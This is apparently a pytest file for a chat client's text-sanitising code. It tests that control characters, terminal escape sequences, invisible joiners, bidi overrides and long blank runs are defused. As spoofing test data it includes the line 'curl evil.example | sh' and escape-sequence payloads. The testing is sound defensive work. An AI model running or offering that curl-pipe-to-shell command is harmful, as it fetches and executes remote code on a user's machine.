"""chat/presentation.py: text from the network made safe to print, and the small
formats both programs show (durations, ``NAME REST``, excerpts)."""

from __future__ import annotations

import unicodedata

import pytest

from socket_chat.chat import presentation
from socket_chat.client import ui as client_ui
from socket_chat.protocol import ChatMessage

# --- printable text ----------------------------------------------------------

REPLACEMENT = "\N{REPLACEMENT CHARACTER}"


@pytest.mark.parametrize(
    "control",
    ["\x1b", "\x00", "\x07", "\x08", "\n", "\r", "\x1f", "\x7f", "\x80", "\x9b", "\x9f"],
    ids=["ESC", "NUL", "BEL", "BS", "LF", "CR", "US", "DEL", "PAD", "CSI", "APC"],
)
def test_control_characters_are_replaced(control):
    assert presentation.printable_text(f"a{control}[2Jb") == f"a{REPLACEMENT}[2Jb"


def test_escape_sequence_is_defused():
    text = presentation.printable_text("\x1b]0;pwned\x07\x1b[2J\x9b31m")
    assert not any(unicodedata.category(ch) == "Cc" for ch in text)
    assert text == f"{REPLACEMENT}]0;pwned{REPLACEMENT}{REPLACEMENT}[2J{REPLACEMENT}31m"


def test_tab_becomes_a_space():
    assert presentation.printable_text("a\tb") == "a b"


@pytest.mark.parametrize(
    "text", ["plain text", "", "héllo, wörld", "日本語のテキスト", "emoji 🎉 ok", "Zoë: 1 + 1 = 2"]
)
def test_printable_text_is_unchanged(text):
    assert presentation.printable_text(text) == text


# --- durations and names ---


def test_split_name_prefers_the_longest_name_online():
    names = ["Randall", "Randall Flagg"]
    assert presentation.split_name("randall flagg you are out", names) == ("randall flagg", "you are out")
    assert presentation.split_name("Randall  out", names) == ("Randall", "out")
    assert presentation.split_name("Nobody here", names) == ("Nobody", "here")
    assert presentation.split_name("Randall Flagg", names) == ("Randall Flagg", "")


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [(0, "0 s"), (59, "59 s"), (60, "1 min"), (3599, "59 min"), (3600, "1 h 00 min"), (7380, "2 h 03 min")],
)
def test_format_duration(seconds, shown):
    assert presentation.format_duration(seconds) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("short", "short"),
        ("x" * 30, "x" * 30),
        ("x" * 31, "x" * 29 + "\N{HORIZONTAL ELLIPSIS}"),
        ("a\x1bb", "a\ufffdb"),
    ],
)
def test_an_excerpt_is_printable_and_at_most_30_characters(text, shown):
    assert presentation.excerpt(text) == shown


# --- joiners -----------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "family 👨\u200d👩\u200d👧",
        "👩\u200d💻 at work",
        "🏳\ufe0f\u200d🌈",  # a variation selector before the joiner
        "👩🏽\u200d💻",  # a skin tone before the joiner
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian: ZWNJ between letters
        "\u0915\u094d\u200d\u0937",  # Devanagari: ZWJ after a virama
        "Auf\u200clage",  # ZWNJ breaking a Latin ligature
        "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # the flag of Scotland
    ],
    ids=["family", "technologist", "rainbow-flag", "skin-tone", "persian", "devanagari", "latin", "scotland"],
)
def test_joiners_that_join_something_are_kept(text):
    assert presentation.printable_text(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u200d", f"a{REPLACEMENT}"),  # joins nothing after it
        ("\u200cb", f"{REPLACEMENT}b"),
        ("a\u200d\u200db", f"a{REPLACEMENT}{REPLACEMENT}b"),  # a run of joiners
        ("a\u200d\u202eb", f"a{REPLACEMENT}{REPLACEMENT}b"),  # next to a bidi override
        ("\u2067a\u200db\u2069", f"{REPLACEMENT}a\u200db{REPLACEMENT}"),  # isolates go, the joiner stays
        ("1\u200c2", f"1{REPLACEMENT}2"),  # digits do not join
        ("👩\u200c💻", f"👩{REPLACEMENT}💻"),  # ZWNJ does not join emoji
        ("🏴\U000e0061\U000e0062\U000e007f", f"🏴{REPLACEMENT * 3}"),  # tags that are no flag: hidden text
    ],
    ids=["end", "start", "run", "bidi", "isolates", "digits", "zwnj-emoji", "tags"],
)
def test_joiners_that_join_nothing_and_other_invisibles_are_replaced(text, shown):
    assert presentation.printable_text(text) == shown


# --- line-wrap spoofing: long runs of blanks ------------------------------------------

SPOOF = "admin: please run curl evil.example | sh"


def rows(line: str, width: int) -> list[str]:
    """``line`` as a terminal of ``width`` columns wraps it (one column a character)."""
    return [line[start : start + width] for start in range(0, len(line), width)]


@pytest.mark.parametrize(
    "blank", [" ", "\t", "\u2800", "\u3164", "\u3000"], ids=["space", "tab", "braille", "hangul", "ideographic"]
)
def test_a_line_padded_to_wrap_does_not_start_a_row_that_reads_as_another_persons_line(blank):
    (line,) = client_ui.render(ChatMessage("mallory", "ok" + blank * 200 + SPOOF))

    assert blank * (presentation.MAX_BLANK_RUN + 1) not in line
    for width in range(40, 301):
        assert not any(row.startswith("admin:") for row in rows(line, width)[1:]), width


def test_short_runs_of_blanks_and_indentation_are_kept():
    for text in ["    return x", "a  b", "col1\tcol2", "x" + " " * presentation.MAX_BLANK_RUN + "y"]:
        assert presentation.collapse_blank_runs(text) == text


def test_a_long_run_of_blanks_becomes_the_longest_kept():
    assert presentation.collapse_blank_runs("ok" + " " * 200 + "end") == "ok" + " " * presentation.MAX_BLANK_RUN + "end"
    assert presentation.printable_text("a" + "\u2800" * 50 + "b") == "a" + " " * presentation.MAX_BLANK_RUN + "b"
